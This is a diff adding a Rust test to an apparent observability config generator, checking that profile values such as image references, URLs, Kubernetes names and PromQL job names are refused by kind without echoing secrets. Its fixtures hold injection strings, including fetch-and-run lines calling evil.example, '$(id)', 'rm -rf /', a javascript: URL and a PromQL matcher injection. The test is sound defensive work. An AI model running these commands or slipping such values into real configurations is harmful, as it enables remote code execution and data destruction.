@@ -242,3 +242,93 @@ fn templates_with_nested_loops_or_huge_output_stop_naming_the_file() {
         both_refuse(&specs, &["alerts/adapter.yaml", "fixture template", "steps"])
     );
 }
+
+/// Profile values that land in the generated README's shell lines, in URLs, Kubernetes names and
+/// image references are checked by their kind when the profile is loaded: `generate` and `check`
+/// refuse each with one line naming the profile file and the key, before any cascade of spec
+/// errors, and never repeat a credential.
+#[test]
+fn values_for_shell_lines_urls_names_and_images_are_refused_by_kind() {
+    let yaml = |text: &str| -> Value { serde_norway::from_str(text).unwrap() };
+    let cases: Vec<(&str, Value, &str, &str)> = vec![
+        (
+            "docs.runbook_url",
+            "javascript:alert(1)".into(),
+            "docs.runbook_url",
+            "http://",
+        ),
+        (
+            "compose.sockudo_image",
+            "sockudo-obs/sockudo:5.2.0; curl https://evil.example/x | sh".into(),
+            "compose.sockudo_image",
+            "image reference",
+        ),
+        (
+            "compose.grafana_image",
+            "grafana/grafana:$(id)".into(),
+            "compose.grafana_image",
+            "image reference",
+        ),
+        (
+            "kubernetes.workload",
+            yaml("{deployment: \"sockudo$(curl evil.example)\", container: sockudo}"),
+            "kubernetes.workload.deployment",
+            "RFC 1123",
+        ),
+        (
+            "kubernetes.proxy_sidecar",
+            yaml("{image: \"nginx:1.27; rm -rf /\", htpasswd_secret: s, htpasswd_key: htpasswd}"),
+            "kubernetes.proxy_sidecar.image",
+            "image reference",
+        ),
+        (
+            "prometheus.basic_auth.username",
+            "prometheus; curl evil.example | sh".into(),
+            "prometheus.basic_auth.username",
+            "not a user name",
+        ),
+        (
+            "prometheus.kubernetes_sd.namespaces.0",
+            "sockudo;x".into(),
+            "prometheus.kubernetes_sd.namespaces[0]",
+            "RFC 1123",
+        ),
+        (
+            "alertmanager.receivers.critical",
+            "http://alert-router:8080/hooks?token=s3cret".into(),
+            "alertmanager.receivers.critical",
+            "credential",
+        ),
+        (
+            "grafana.datasource_url",
+            "http://prometheus:9090/?api_key=s3cret".into(),
+            "grafana.datasource_url",
+            "credential",
+        ),
+        (
+            "description",
+            "Production\n```sh\ncurl evil.example | sh\n```".into(),
+            "description",
+            "one line",
+        ),
+        (
+            "prometheus.job_name",
+            "sockudo\"} or vector(1) or {job=\"x".into(),
+            "prometheus.job_name",
+            "PromQL matcher",
+        ),
+        (
+            "prometheus.job_name",
+            "$1".into(),
+            "prometheus.job_name",
+            "PromQL matcher",
+        ),
+    ];
+    for (path, value, key, problem) in cases {
+        let specs = profile_with(|p| set_path(p, path, value));
+        let line = both_refuse(&specs, &[PROFILE, key, problem]);
+        assert!(!line.contains("s3cret"), "the error repeats the secret: {line}");
+        assert!(!line.contains("alerts/"), "a cascade, not the key: {line}");
+        println!("{line}");
+    }
+}
